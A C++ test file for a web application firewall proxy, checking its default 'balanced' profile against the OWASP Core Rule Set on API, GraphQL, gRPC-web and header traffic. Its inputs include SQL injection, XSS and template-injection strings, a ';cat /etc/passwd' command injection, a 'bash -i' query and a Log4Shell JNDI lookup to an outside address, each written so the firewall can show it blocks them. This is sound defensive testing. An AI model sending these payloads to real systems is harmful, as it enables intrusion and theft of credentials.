// The `waf.profile` key in the real binary with the installed OWASP CRS (skipped without
// /usr/share/modsecurity-crs): `balanced` (the default) against `crs` on the requests that tell
// them apart — ordinary API traffic CRS refuses, GraphQL documents, the precise rules above
// paranoia 1, and the signature packs the profile brings. How the profile was measured is in
// docs/detection.md.

#include <gtest/gtest.h>

#include <optional>
#include <string>
#include <utility>
#include <vector>

#include "support/acl_helpers.h"
#include "support/attack_records.h"
#include "support/auth_helpers.h"
#include "support/client.h"
#include "support/json.h"
#include "support/log_file.h"
#include "support/proxy_fixture.h"

namespace rampart::test {
namespace {

constexpr char kHost[] = "shop.example";  // CRS scores a numeric Host (920350)

// A GraphQL document as browsers' GraphQL clients send it: braces, `$variables`, newlines and
// `__typename`, which CRS 932100 reads as a Unix command at paranoia 1.
std::string GraphqlBody(const std::string& board_id) {
  return "{\"operationName\":\"Board\",\"query\":\"query Board($id: ID!) {\\n  board(id: $id) "
         "{\\n    id\\n    columns {\\n      id\\n      __typename\\n    }\\n    "
         "__typename\\n  }\\n}\",\"variables\":{\"id\":\"" +
         board_id + "\"}}";
}

class WafProfileTest : public ProxyTest {
 protected:
  std::string AttackLogPath() const { return rampart_.dir() + "/attack.log"; }
  std::string AccessLogPath() const { return rampart_.dir() + "/access.log"; }

  // Starts rampart with this `waf` map (once per test).
  void Start(const std::string& waf) {
    ConfigOptions options;
    options.backend_ports = {origin_.port()};
    options.route_lines = {"waf: " + waf};
    options.extra = "  attack_log: " + AttackLogPath() + "\n";  // continues logging:
    ASSERT_NO_FATAL_FAILURE(StartRampart(options));
  }

  // One request on a fresh connection; waits for its access-log line, so that the attack log
  // (written before it) holds its record when there is one.
  int Status(const std::string& method, const std::string& target, HeaderList headers = {},
             const std::string& body = "") {
    headers.insert(headers.begin(), {"Host", kHost});
    headers.emplace_back("Connection", "close");
    Client c;
    if (!c.Connect(port())) {
      ADD_FAILURE() << "connect: " << c.error();
      return 0;
    }
    auto r = c.Request(method, target, headers, body);
    if (!r) {
      ADD_FAILURE() << method << " " << target << ": " << c.error();
      return 0;
    }
    ++requests_;
    EXPECT_EQ(WaitForFileLines(AccessLogPath(), requests_).size(), requests_);
    return r->status;
  }

  // Every rule id of every attack-log record so far.
  std::vector<std::string> LoggedRules() {
    std::vector<std::string> ids;
    for (const std::string& line : WaitForFileLines(AttackLogPath(), 0, Timeout(0))) {
      auto json = ParseJson(line);
      if (!json) continue;
      for (std::string& id : RuleIds(*json)) ids.push_back(std::move(id));
    }
    return ids;
  }
  // Whether some record names rule `id`; the attack log is written off the request's path, so
  // a record may land after the access-log line: this waits for it (up to kDefaultTimeout).
  bool Logged(const std::string& id) {
    return Eventually([&] { return !NotLogged(id); });
  }
  // The records so far name no rule `id` (after a Logged() of the same requests' records).
  bool NotLogged(const std::string& id) {
    for (const std::string& r : LoggedRules()) {
      if (r == id) return false;
    }
    return true;
  }

  size_t requests_ = 0;
};

// A CSP violation report and a JSON merge patch.
const HeaderList kReport = {{"Content-Type", "application/csp-report"}};
constexpr char kViolation[] =
    "{\"csp-report\":{\"document-uri\":\"https://shop.example/cart\",\"violated-directive\":"
    "\"img-src\",\"blocked-uri\":\"https://cdn.other.example/pixel.gif\"}}";
const HeaderList kPatch = {{"Content-Type", "application/merge-patch+json"}};

TEST_F(WafProfileTest, CrsRefusesOrdinaryApiTraffic) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block, profile: crs}"));
  EXPECT_EQ(Status("POST", "/csp", kReport, kViolation), 403);  // 920420: type not allowed
  EXPECT_EQ(Status("PATCH", "/api/tasks/7", kPatch, "{\"done\":true}"), 403);  // 911100
  EXPECT_EQ(origin_.RequestCount(), 0u);
  EXPECT_TRUE(Logged("920420"));
  EXPECT_TRUE(Logged("911100"));
}

TEST_F(WafProfileTest, BalancedLetsThroughOrdinaryApiTrafficThatCrsRefuses) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block}"));  // balanced, the default
  EXPECT_EQ(Status("POST", "/csp", kReport, kViolation), 200);
  EXPECT_EQ(Status("PATCH", "/api/tasks/7", kPatch, "{\"done\":true}"), 200);
  EXPECT_EQ(origin_.RequestCount(), 2u);
  // Both bodies are still parsed and inspected: an attack in either is refused.
  EXPECT_EQ(Status("PATCH", "/api/tasks/7", kPatch, "{\"title\":\"1' OR 1=1--\"}"), 403);
  EXPECT_EQ(Status("POST", "/csp", kReport, "{\"csp-report\":{\"document-uri\":\"1' OR 1=1--\"}}"),
            403);
  EXPECT_EQ(origin_.RequestCount(), 2u);
}

// Bodies no libmodsecurity processor reads are inspected through rampart's views of them
// (modsec/body_view.h) rather than refused for their type; the backend gets them unchanged.
const HeaderList kText = {{"Content-Type", "text/plain;charset=UTF-8"}};
const HeaderList kNdjson = {{"Content-Type", "application/x-ndjson"}};
const HeaderList kProtobuf = {{"Content-Type", "application/x-protobuf"}};

// A protobuf length-delimited field (numbers and lengths below 128).
std::string ProtobufField(int number, const std::string& bytes) {
  return std::string(1, static_cast<char>(number << 3 | 2)) +
         std::string(1, static_cast<char>(bytes.size())) + bytes;
}

TEST_F(WafProfileTest, BalancedInspectsBeaconsNdjsonAndProtobufValueByValue) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block}"));
  const std::string beacon = R"({"name":"INP","value":651.6,"page":"/categories"})";
  EXPECT_EQ(Status("POST", "/rum", kText, beacon), 200);
  auto seen = origin_.LastRequest();
  ASSERT_TRUE(seen.has_value());
  EXPECT_EQ(seen->body, beacon);
  const std::string lines = "{\"event\":\"search\",\"term\":\"mochila niño\"}\n{\"event\":\"x\"}\n";
  EXPECT_EQ(Status("POST", "/v2/analytics/batch", kNdjson, lines), 200);
  const std::string search =
      ProtobufField(1, "cafetera italiana") + ProtobufField(4, ProtobufField(1, "toys"));
  EXPECT_EQ(Status("POST", "/v2/search", kProtobuf, search), 200);
  seen = origin_.LastRequest();
  ASSERT_TRUE(seen.has_value());
  EXPECT_EQ(seen->body, search);  // the bytes as sent, not the view
  EXPECT_EQ(Status("POST", "/api/v1/feedback/text", kText, "Arrived a day early. Box fine."), 200);
  // A Sentry envelope with the SDK's address placeholder (the profile's rule 900055).
  const std::string envelope = "{\"event_id\":\"8a03\"}\n{\"type\":\"event\"}\n";
  EXPECT_EQ(Status("POST", "/monitoring?o=4507", kText,
                   envelope + "{\"user\":{\"ip_address\":\"{{auto}}\"},\"message\":\"x\"}\n"),
            200);
  EXPECT_EQ(origin_.RequestCount(), 5u);

  // An attack in any value is found by CRS's own rules, as in a JSON or form body.
  EXPECT_EQ(
      Status("POST", "/api/items", kText, "{\"id\":\"1' union select password from users--\"}"),
      403);
  EXPECT_EQ(Status("POST", "/v2/analytics/batch", kNdjson,
                   "{\"event\":\"a\"}\n{\"term\":\"<script>alert(document.cookie)</script>\"}\n"),
            403);
  EXPECT_EQ(Status("POST", "/v2/search", kProtobuf,
                   ProtobufField(1, "x") +
                       ProtobufField(4, ProtobufField(1, "1' UNION SELECT password FROM users--"))),
            403);
  EXPECT_EQ(Status("POST", "/api/pastes", kText, "see ;cat /etc/passwd"), 403);
  EXPECT_EQ(
      Status(
          "POST", "/monitoring?o=4507", kText,
          envelope + "{\"user\":{\"ip_address\":\"{{constructor.constructor('alert(1)')()}}\"}}\n"),
      403);
  // The placeholder does not lend its exemption to a duplicate key.
  EXPECT_EQ(
      Status("POST", "/monitoring?o=4507", kText,
             envelope + "{\"user\":{\"ip_address\":\"{{auto}}\",\"ip_address\":\"{{7*7}}\"}}\n"),
      403);
  // JSON a strict parser refuses (a lone surrogate) but a lenient backend decodes: its escaped
  // values are still read.
  EXPECT_EQ(Status("POST", "/api/items", kText,
                   R"({"a":"\ud800","q":"\u0031\u0027 union select password from users--"})"),
            403);
  EXPECT_EQ(origin_.RequestCount(), 5u);
  EXPECT_TRUE(Logged("942100"));     // libinjection on the value
  EXPECT_TRUE(NotLogged("920420"));  // the types are allowed: inspected, not refused
}

TEST_F(WafProfileTest, GrpcWebFramesAreInspectedAndAnUnreadableOneIsRefused) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block}"));
  auto frame = [](const std::string& message, char flags) {
    return std::string(1, flags) + std::string(3, '\0') +
           std::string(1, static_cast<char>(message.size())) + message;
  };
  const HeaderList grpc = {{"Content-Type", "application/grpc-web+proto"}};
  EXPECT_EQ(Status("POST", "/tasklane.search.v1.SearchService/Search", grpc,
                   frame(ProtobufField(1, "O'Reilly"), 0)),
            200);
  EXPECT_EQ(Status("POST", "/tasklane.search.v1.SearchService/Search", grpc,
                   frame(ProtobufField(1, "1' UNION SELECT password FROM users--"), 0)),
            403);
  // gRPC-web-text: the same frame in base64 ("\0\0\0\0\x0b\n\tsync: now").
  const HeaderList text = {{"Content-Type", "application/grpc-web-text"}};
  EXPECT_EQ(Status("POST", "/tasklane.sync.v1.SyncService/Pull", text, "AAAAAAsKCXN5bmM6IG5vdw=="),
            200);
  // A compressed frame rampart cannot read: refused as a body that cannot be parsed.
  EXPECT_EQ(Status("POST", "/tasklane.search.v1.SearchService/Search", grpc,
                   frame(ProtobufField(1, "abc"), 1)),
            400);
  EXPECT_TRUE(Logged("200002"));
  EXPECT_EQ(origin_.RequestCount(), 2u);
}

// With inspect_partial, a body view is never longer than the limit (libmodsecurity would cut the
// document and inspect nothing past the cut): control characters do not blow a view up, and a
// gRPC-web-text body over the limit has its whole frames read.
TEST_F(WafProfileTest, ABodyViewFitsThePartialInspectionLimit) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(
      Start("{mode: block, request_body: {limit: 4000, over_limit: inspect_partial}}"));
  EXPECT_EQ(Status("POST", "/api/pastes", kText,
                   std::string(800, '\x01') + " 1' union select password from users--"),
            403);
  auto frame = [](const std::string& message) {  // flag 0, 4-byte big-endian length
    return std::string(3, '\0') + static_cast<char>(message.size() >> 8) +
           static_cast<char>(message.size() & 0xFF) + message;
  };
  // The second frame (3,000 bytes, base64-encoded past the 4,000-byte limit) is cut.
  const std::string frames = frame(ProtobufField(1, "1' UNION SELECT password FROM users--")) +
                             frame(std::string(3000, 'a'));
  EXPECT_EQ(Status("POST", "/shop.search.v1.SearchService/Search",
                   {{"Content-Type", "application/grpc-web-text"}}, Base64(frames)),
            403);
  EXPECT_EQ(origin_.RequestCount(), 0u);
}

// `profile: crs` keeps CRS's own content types (no list in the policy); body views add theirs
// to that default list.
TEST_F(WafProfileTest, CrsWithBodyViewsAllowsAndInspectsTheViewedTypes) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block, profile: crs, body_views: true}"));
  EXPECT_EQ(Status("POST", "/rum", kText, R"({"name":"INP","value":651.6})"), 200);
  EXPECT_EQ(
      Status("POST", "/api/items", kText, "{\"id\":\"1' union select password from users--\"}"),
      403);
  EXPECT_TRUE(Logged("942100"));
  EXPECT_TRUE(NotLogged("920420"));
  EXPECT_EQ(Status("POST", "/form", {{"Content-Type", "application/x-www-form-urlencoded"}}, "a=1"),
            200);  // CRS's own types stay allowed
  EXPECT_EQ(origin_.RequestCount(), 2u);
}

TEST_F(WafProfileTest, WithoutBodyViewsTheTypesStayRefused) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block, body_views: false}"));
  EXPECT_EQ(Status("POST", "/rum", kText, R"({"name":"INP","value":651.6})"), 403);
  EXPECT_TRUE(Logged("920420"));
  EXPECT_EQ(origin_.RequestCount(), 0u);
}

TEST_F(WafProfileTest, CrsRefusesAGraphqlDocument) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block, profile: crs}"));
  EXPECT_EQ(Status("POST", "/graphql", {{"Content-Type", "application/json"}}, GraphqlBody("b1")),
            403);
  EXPECT_TRUE(Logged("932100"));
}

TEST_F(WafProfileTest, BalancedExemptsGraphqlDocumentsButStillInspectsTheirVariables) {
  REQUIRE_CRS();
  const HeaderList json = {{"Content-Type", "application/json"}};
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block}"));
  EXPECT_EQ(Status("POST", "/graphql", json, GraphqlBody("b1")), 200);
  EXPECT_EQ(origin_.RequestCount(), 1u);
  EXPECT_EQ(Status("POST", "/graphql", json, GraphqlBody("1' OR 1=1--")), 403);
  EXPECT_EQ(Status("POST", "/api/graphql", json, "{\"query\":\"{ user(id: 1) { name } }\"}"), 200);
  EXPECT_EQ(origin_.RequestCount(), 2u);
  // Only the GraphQL endpoint's document is exempt: the same text elsewhere is not, nor on a
  // path that merely ends in /graphql (PHP runs /search.php/graphql as search.php).
  EXPECT_EQ(Status("POST", "/api/search", json, GraphqlBody("b1")), 403);
  EXPECT_EQ(Status("GET", "/search.php/graphql?query=%3Bbash%20-i"), 403);
  EXPECT_EQ(origin_.RequestCount(), 2u);
}

// An off-site link in an argument: CRS 931130 (paranoia 2) calls it remote file inclusion.
constexpr char kLink[] = "/share?url=https%3A%2F%2Fnews.example.org%2Fstory";
// AngularJS template injection: 941380 (paranoia 2), one of the profile's precise rules.
constexpr char kCsti[] = "/search?q=%7B%7Bconstructor.constructor(%27alert(1)%27)()%7D%7D";

TEST_F(WafProfileTest, AParanoiaAskedForRunsEveryRuleOfThatLevel) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block, paranoia: 2}"));
  EXPECT_EQ(Status("GET", kLink), 403);
  EXPECT_TRUE(Logged("931130"));
}

TEST_F(WafProfileTest, BalancedRunsOnlyItsPreciseRulesAboveParanoiaOne) {
  REQUIRE_CRS();
  // An off-site link in an argument: CRS 931130 (paranoia 2) calls it remote file inclusion.
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block}"));
  EXPECT_EQ(Status("GET", kLink), 200);
  EXPECT_EQ(Status("GET", kCsti), 403);
  EXPECT_TRUE(Logged("941380"));
  EXPECT_TRUE(NotLogged("931130"));
}

// A Log4Shell lookup in a header CRS 3.3 does not read at paranoia 1.
const HeaderList kLog4Shell = {{"X-Api-Version", "${jndi:ldap://198.51.100.7:1389/a}"}};

TEST_F(WafProfileTest, CrsAloneMissesALog4ShellHeader) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block, profile: crs}"));
  EXPECT_EQ(Status("GET", "/", kLog4Shell), 200);
}

TEST_F(WafProfileTest, DetectModeRefusesNothingEvenWithTheProfile) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: detect}"));
  EXPECT_EQ(Status("GET", "/", kLog4Shell), 200);
  EXPECT_EQ(Status("GET", "/?id=1%27%20OR%201%3D1--"), 200);
  EXPECT_TRUE(Logged("942100"));  // detected, logged
  EXPECT_EQ(origin_.RequestCount(), 2u);
}

TEST_F(WafProfileTest, TheScopeExemptionTakesOnlyOAuthScopes) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block}"));
  EXPECT_EQ(Status("GET",
                   "/oauth/authorize?client_id=app&scope=openid%20email%20"
                   "https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fuserinfo.profile"),
            200);
  EXPECT_EQ(Status("GET", "/file?scope=.htaccess"), 403);  // 930120 still reads it
  EXPECT_TRUE(Logged("930120"));
}

TEST_F(WafProfileTest, BalancedDecodesBasicCredentials) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block}"));
  auto basic = [](const std::string& credentials) {
    return HeaderList{{"Authorization", "Basic " + Base64(credentials)}};
  };
  EXPECT_EQ(Status("GET", "/api/reports", basic("reporting@example.org:hTQcfvLHJrlEId13")), 200);
  EXPECT_EQ(Status("GET", "/api/reports", basic("admin:1' OR '1'='1")), 403);
  // The scheme is case-insensitive, and lenient decoders skip stray characters.
  EXPECT_EQ(
      Status("GET", "/api/reports", {{"Authorization", "BASIC " + Base64("admin:1' OR '1'='1")}}),
      403);
  const std::string encoded = Base64("admin:1' OR '1'='1");
  EXPECT_EQ(Status("GET", "/api/reports",
                   {{"Authorization", "Basic " + encoded.substr(0, 4) + "." + encoded.substr(4)}}),
            403);
  EXPECT_TRUE(Logged("900060"));
  EXPECT_EQ(Status("GET", "/api/reports", basic("<svg/onload=alert(1)>:x")), 403);
  EXPECT_TRUE(Logged("900061"));
  EXPECT_EQ(origin_.RequestCount(), 1u);
}

TEST_F(WafProfileTest, BalancedChecksEveryRequestHeaderAndThePath) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block}"));
  // What browsers send: Safari's Accept and Chrome 96's brand list read as SQL to libinjection.
  EXPECT_EQ(Status("GET", "/",
                   {{"Accept",
                     "image/webp,image/avif,image/jxl,image/heic,image/heic-sequence,"
                     "video/*;q=0.8,image/png,image/svg+xml,image/*;q=0.8,*/*;q=0.5"},
                    {"Sec-CH-UA", "\" Not A;Brand\";v=\"99\", \"Chromium\";v=\"96\""},
                    {"X-Forwarded-For", "203.0.113.195, 198.51.100.7"},
                    {"If-None-Match", "W/\"5e15153d-120f\""}}),
            200);
  EXPECT_EQ(Status("GET", "/", {{"X-Forwarded-Host", "<img src=x onerror=alert(1)>"}}), 403);
  EXPECT_TRUE(Logged("900062"));
  EXPECT_EQ(Status("GET", "/", {{"X-Real-IP", "1' AND 1=2 AND 'a'='a"}}), 403);
  EXPECT_TRUE(Logged("900063"));
  // And the path: a reflected tag page, once and twice encoded; an ordinary odd path passes.
  EXPECT_EQ(Status("GET", "/blog/tag/%3Csvg%20onload=alert(1)%3E"), 403);
  EXPECT_EQ(Status("GET", "/help/%253Cimg%2520src%253Dx%2520onerror%253Dalert%25281%2529%253E"),
            403);
  EXPECT_TRUE(Logged("900064"));
  EXPECT_EQ(Status("GET", "/blog/2024/06/why-%3Cdiv%3E-soup-is-bad"), 200);
  EXPECT_EQ(origin_.RequestCount(), 2u);
}

// The profile's checks are rules like CRS's: an exclusion turns one off on the route.
TEST_F(WafProfileTest, AnExclusionTurnsOffAProfileCheck) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block, exclusions: [{id: 900063}]}"));
  EXPECT_EQ(Status("GET", "/", {{"X-Real-IP", "1' AND 1=2 AND 'a'='a"}}), 200);
  EXPECT_EQ(Status("GET", "/", {{"X-Forwarded-Host", "<img src=x onerror=alert(1)>"}}), 403);
  EXPECT_TRUE(Logged("900062"));  // the XSS check still runs
}

TEST_F(WafProfileTest, CrsDoesNotReadBasicCredentials) {
  REQUIRE_CRS();
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block, profile: crs}"));
  EXPECT_EQ(
      Status("GET", "/api/reports", {{"Authorization", "Basic " + Base64("admin:1' OR '1'='1")}}),
      200);
}

TEST_F(WafProfileTest, BalancedBringsTheSignaturePacks) {
  REQUIRE_CRS();
  const HeaderList& log4shell = kLog4Shell;
  ASSERT_NO_FATAL_FAILURE(Start("{mode: block}"));
  EXPECT_EQ(Status("GET", "/", log4shell), 403);
  auto lines = WaitForFileLines(AttackLogPath(), 1);
  ASSERT_FALSE(lines.empty());
  auto record = ParseJson(lines.back());
  ASSERT_TRUE(record);
  EXPECT_EQ(record->StringAt("source"), "signatures") << lines.back();
}

}  // namespace
}  // namespace rampart::test
